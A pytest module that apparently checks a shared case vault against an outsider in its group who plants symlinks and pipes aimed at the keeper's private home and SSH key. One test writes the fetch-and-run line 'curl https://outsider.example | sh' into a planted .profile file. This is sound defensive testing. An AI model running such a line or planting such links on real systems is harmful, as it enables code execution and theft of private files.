"""Three users of one computer: a keeper, a colleague, and an outsider who is in the vault's group.

The outsider writes in the vault's folder whatever its rights allow, and waits for the keeper to run a
command. Afterwards nobody reads or changed what the keeper keeps to themselves.
"""

import os
import shutil
import tempfile
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path

import pytest

from casetui.data.vault import Vault
from casetui.demo import make_demo
from casetui.keeping.backup import back_up
from casetui.keeping.checking import repair
from casetui.keeping.restoring import restore
from casetui.words import CaseTUIError
from tests.attacks.places import Home, every_place, plant
from tests.attacks.users import COLLEAGUE, GROUP, KEEPER, OUTSIDER, as_user, may_be_others
from tests.keeping.keeping import check, keeper, keyring, vault_as
from tests.keeping.test_backup import sign_in
from tests.keeping.test_repairing import save, summaries
from tests.torture.office import add

NOW = datetime(2026, 11, 21, 9, tzinfo=UTC)
WHY_NOT = may_be_others()
pytestmark = pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT)
FOLDERS, FILES = (4, 5, 6, 7, 8, 9, 10, 11, 12, 16, 19, 25), (1, 2, 13, 14, 18, 20, 21, 22, 23, 24, 26)
"""The numbers of the places that the outsider plants something in."""


class Room:
    """A vault for a team, and a home that is the keeper's alone."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.vault, self.backup, self.home = folder / "vault", folder / "keeper" / "backup", None

    def at(self) -> Vault:
        return vault_as(Vault.at(self.vault))

    def first(self) -> str:
        return sorted(self.at().names())[0]

    def everything(self) -> list[str]:
        """Run the check with its repair, a backup and a restore, and save; return all that was said."""
        found = check(Vault.at(self.vault))
        said = [*found.problems, *repair(keeper(Vault.at(self.vault)), found)[0]]
        said += back_up(Vault.at(self.vault), self.backup, NOW).problems
        done = restore(self.vault, self.backup, sign_in)
        said += [*done.left_alone, *done.problems]
        with suppress(CaseTUIError):
            save(self.at(), self.first(), "grainne", "Call 1")
        return said


def made(folder: Path) -> Room:
    room = Room(folder)
    folder.chmod(0o755)
    room.vault.mkdir()
    os.chown(room.vault, KEEPER, GROUP)
    room.vault.chmod(0o2770)
    (folder / "keeper").mkdir(mode=0o700)
    os.chown(folder / "keeper", KEEPER, KEEPER)
    return room


@pytest.fixture(scope="module")
def warm(tmp_path_factory):
    """Run everything once, so that all modules are imported before anybody becomes another user."""
    folder = tmp_path_factory.mktemp("warm")
    room = Room(folder)
    (folder / "keeper").mkdir()
    save(vault_as(make_demo(room.vault, NOW, cases=2)), room.first(), "mary", "Call 0")
    room.everything()


@pytest.fixture
def room(warm):
    folder = Path(tempfile.mkdtemp(prefix="casetui-three-"))
    room = made(folder)

    def begin():
        os.umask(0o007)
        room.home = Home(folder / "keeper" / "home")
        save(vault_as(make_demo(room.vault, NOW, cases=2)), room.first(), "mary", "Call 0")
        return back_up(Vault.at(room.vault), room.backup, NOW).problems

    assert as_user(KEEPER, begin) == []
    yield room
    shutil.rmtree(folder)


def private(room) -> Home:
    """Return the keeper's home, as it is now."""
    home = Home.__new__(Home)
    home.folder = room.folder / "keeper" / "home"
    home.secret = home.folder / ".ssh" / "id_ed25519"
    home._before = home._now()
    return home


def reads(folder: Path) -> list[str]:
    """Return the files below a folder in which this user finds a word of what the keeper keeps private."""
    found = []
    for path in folder.rglob("*"):
        with suppress(OSError):
            if path.is_file() and b"PRIVATE" in path.read_bytes():
                found.append(str(path))
    return found


@pytest.mark.parametrize(
    ("number", "kind"),
    [
        *((number, "link to a folder") for number in FOLDERS),
        *((number, "link to a file") for number in FILES),
        (6, "pipe"), (14, "pipe"),
    ],
)  # fmt: skip
def test_the_outsider_gets_nothing_whatever_the_keeper_runs(room, number, kind):
    home = private(room)
    name = every_place(room.vault)[number]
    as_user(OUTSIDER, lambda: plant(room.vault / name, kind, home))
    said = as_user(KEEPER, room.everything)
    home.assert_untouched()
    for user in (OUTSIDER, COLLEAGUE):
        assert as_user(user, lambda: reads(room.vault) + reads(room.folder)) == []
    assert name.startswith("locks/") or any(name.partition("/")[0] in one for one in said), said


def test_the_attack_would_work_by_itself(room):
    """The outsider may write in the folder, and a program that follows links gives the keeper's file away."""
    home = private(room)
    as_user(OUTSIDER, lambda: plant(room.vault / "notes", "link to a file", home))
    assert as_user(OUTSIDER, lambda: reads(room.folder)) == []

    def careless():
        shutil.copy(room.vault / "notes", room.vault / "copied")
        (room.vault / "copied").chmod(0o660)

    as_user(KEEPER, careless)
    assert as_user(OUTSIDER, lambda: reads(room.vault)) == [str(room.vault / "copied")]


def test_a_folder_that_the_outsider_planted_lets_no_restore_write_into_the_home(room):
    home = private(room)

    def lay():
        (room.vault / "packs" / "x").mkdir(mode=0o775)
        (room.vault / "packs" / "x" / ".profile").write_text("curl https://outsider.example | sh\n")
        (room.vault / "packs" / "x" / ".profile").chmod(0o664)

    as_user(OUTSIDER, lay)
    as_user(KEEPER, lambda: back_up(Vault.at(room.vault), room.backup, NOW).problems)
    as_user(OUTSIDER, lambda: plant(room.vault / "packs" / "x", "link to a folder", home))
    said = as_user(KEEPER, lambda: restore(room.vault, room.backup, sign_in).problems)
    home.assert_untouched()
    assert any("packs/x" in one and "link" in one for one in said), said


def test_colleagues_still_share_the_vault(room):
    name, ring = room.first(), keyring(Vault.at(room.vault), "sean")

    def hers() -> Vault:  # the keys of a demo are its maker's alone
        return Vault.at(room.vault).signed_in(ring)

    as_user(COLLEAGUE, lambda: add(hers(), name, "Call of the colleague", "sean") and None)
    as_user(KEEPER, lambda: save(room.at(), name, "mary", "Call of the keeper"))
    said = as_user(COLLEAGUE, lambda: summaries(hers(), name))
    assert said[-2:] == ["Call of the colleague", "Call of the keeper"]
    problems = as_user(KEEPER, lambda: check(room.at()).problems)
    assert all("the first is demo-keys" in one for one in problems), problems
